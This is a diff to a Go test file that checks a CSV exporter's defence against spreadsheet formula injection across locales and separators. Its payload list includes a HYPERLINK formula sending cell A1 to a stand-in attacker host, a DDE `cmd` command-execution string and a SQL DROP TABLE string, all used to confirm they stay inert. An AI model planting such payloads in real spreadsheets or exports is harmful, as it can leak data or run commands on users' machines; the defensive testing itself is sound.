@@ -3,6 +3,7 @@ package csvexport
 import (
 	"bytes"
 	"encoding/csv"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -23,12 +24,14 @@ func TestWriter_RoundTrip(t *testing.T) {
 		{"plus", "+1+2", "'+1+2"},
 		{"minus", "-2+3", "'-2+3"},
 		{"at", "@SUM(A1)", "'@SUM(A1)"},
-		{"tab", "\t=1", "'\t=1"},
-		{"carriage return", "\r=1", "'\r=1"},
+		// The tab and the CR are prefixes and separators: a reader splitting
+		// on them meets the = next.
+		{"tab", "\t=1", "'\t'=1"},
+		{"carriage return", "\r=1", "'\r'=1"},
 		{"equals later is fine", "a=b", "a=b"},
 		{"unicode", "Grüße ☃ 製品 🏭", "Grüße ☃ 製品 🏭"},
 		{"rtl", "שלום,עולם", "שלום,עולם"},
-		{"sql", `'; DROP TABLE x;--`, `'; DROP TABLE x;--`},
+		{"sql", `'; DROP TABLE x;--`, `'; DROP TABLE x;'--`},
 		{"empty", "", ""},
 		{"leading space", " x", " x"},
 	}
@@ -53,7 +56,7 @@ func TestWriter_RoundTrip(t *testing.T) {
 		t.Fatalf("header = %q", out[:min(40, len(out))])
 	}
 	// Written byte for byte: a lone \r and a \r\n inside a value survive.
-	for _, raw := range []string{"\"'\r=1\"", "\"a\r\nb\"", "\"say \"\"hi\"\"\""} {
+	for _, raw := range []string{"\"'\r'=1\"", "\"a\r\nb\"", "\"say \"\"hi\"\"\""} {
 		if !strings.Contains(out, raw) {
 			t.Errorf("output lacks %q", raw)
 		}
@@ -83,6 +86,167 @@ func TestWriter_RoundTrip(t *testing.T) {
 
 func TestNeutralize(t *testing.T) {
 	for in, want := range map[string]string{"=1": "'=1", "+": "'+", "-": "'-", "@": "'@", "x": "x", "": "", "'=1": "'=1"} {
+		if got := Neutralize(in); got != want {
+			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// excelSplit reads data as a spreadsheet does when it opens a CSV file with
+// sep as the separator: German and French Excel and LibreOffice use ';'
+// (their decimal separator is ','), others ',' or a tab. A field that starts
+// with a quote is quoted up to a lone quote, and what follows that quote up
+// to the separator is appended as it is; any other field runs to the next
+// separator or line end, quotes and all.
+func excelSplit(data string, sep byte) [][]string {
+	var rows [][]string
+	var row []string
+	i := 0
+	for i <= len(data) {
+		var cell strings.Builder
+		if i < len(data) && data[i] == '"' {
+			i++
+			for i < len(data) {
+				if data[i] == '"' {
+					if i+1 < len(data) && data[i+1] == '"' {
+						cell.WriteByte('"')
+						i += 2
+						continue
+					}
+					i++
+					break
+				}
+				cell.WriteByte(data[i])
+				i++
+			}
+		}
+		for i < len(data) && data[i] != sep && data[i] != '\n' && data[i] != '\r' {
+			cell.WriteByte(data[i])
+			i++
+		}
+		row = append(row, cell.String())
+		if i < len(data) && data[i] == sep {
+			i++
+			continue
+		}
+		if i < len(data) && data[i] == '\r' {
+			i++
+			if i < len(data) && data[i] == '\n' {
+				i++
+			}
+		} else {
+			i++ // the \n, or past the end
+		}
+		rows = append(rows, row)
+		row = nil
+	}
+	return rows
+}
+
+// isFormula reports whether a spreadsheet may run cell as a formula: it
+// starts, after spaces (LibreOffice can trim them) and stray quotes, with
+// one of OWASP's prefixes, and is not a plain number.
+func isFormula(cell string) bool {
+	if _, err := strconv.ParseFloat(cell, 64); err == nil {
+		return false
+	}
+	t := strings.TrimLeft(cell, " \"")
+	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0]))
+}
+
+// TestWriter_NoFormulaInAnyLocale: text that hides a formula after a
+// separator or a line break (L1;=HYPERLINK(…)) stays text whichever
+// separator the spreadsheet splits on, where the text cell sits in its row,
+// and whatever quotes, spaces or tabs surround the prefix.
+func TestWriter_NoFormulaInAnyLocale(t *testing.T) {
+	payloads := []string{
+		`L1;=HYPERLINK("http://evil.example/?"&A1;"Details")`,
+		"L1;=1+1",
+		"L1; =1+1",
+		`L1;"=1+1"`,
+		`L1;" =cmd|' /C calc'!A0"`,
+		"L1;+1+1",
+		"L1;-1+1",
+		"L1;@SUM(A1)",
+		"L1,=1+1",
+		"L1, =1+1",
+		"L1\t=1+1",
+		"L1\n=1+1",
+		"L1\r\n=1+1",
+		"L1\r=1+1",
+		"L1;\t=1+1",
+		"=1+1",
+		" =1+1",
+		"\"=1+1",
+		"a;b;=c;d",
+		"x;;=1",
+	}
+	var buf bytes.Buffer
+	w, err := NewWriter(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range payloads {
+		// The payload first, in the middle and last in its row.
+		if err := w.Write(p, "P-100", int64(-5)); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Write("P-100", p, int64(5)); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Write("P-100", int64(5), p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	out := strings.TrimPrefix(buf.String(), "\ufeff")
+	for _, sep := range []byte{';', ',', '\t'} {
+		for _, row := range excelSplit(out, sep) {
+			for _, cell := range row {
+				if isFormula(cell) {
+					t.Errorf("separator %q: cell %q may run as a formula (row %q)", sep, cell, row)
+				}
+			}
+		}
+	}
+
+	// A semicolon reader that honours quotes (LibreOffice, Excel) keeps a
+	// text cell with ';' in one cell: it is quoted.
+	r := csv.NewReader(strings.NewReader(out))
+	r.Comma = ';'
+	r.LazyQuotes = true
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		if strings.HasPrefix(row[0], "'L1;") && len(row) != 1 {
+			t.Errorf("a text cell with ';' was split: %q", row)
+		}
+	}
+}
+
+func TestNeutralize_AfterSeparators(t *testing.T) {
+	for in, want := range map[string]string{
+		"L1;=1":      "L1;'=1",
+		"L1; =1":     "L1;' =1",
+		`L1;"=1"`:    `L1;'"=1"`,
+		"L1,+1":      "L1,'+1",
+		"L1\n-1":     "L1\n'-1",
+		"L1\t@x":     "L1\t'@x",
+		"L1\r\n=1":   "L1\r\n'=1",
+		"a;b":        "a;b",
+		"a=b;c":      "a=b;c",
+		"x;;=1":      "x;;'=1",
+		" =1":        "' =1",
+		"2024-01-01": "2024-01-01",
+		"Grüße;☃":    "Grüße;☃",
+		"'=1":        "'=1",
+		"L1;'=1":     "L1;'=1",
+	} {
 		if got := Neutralize(in); got != want {
 			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
 		}
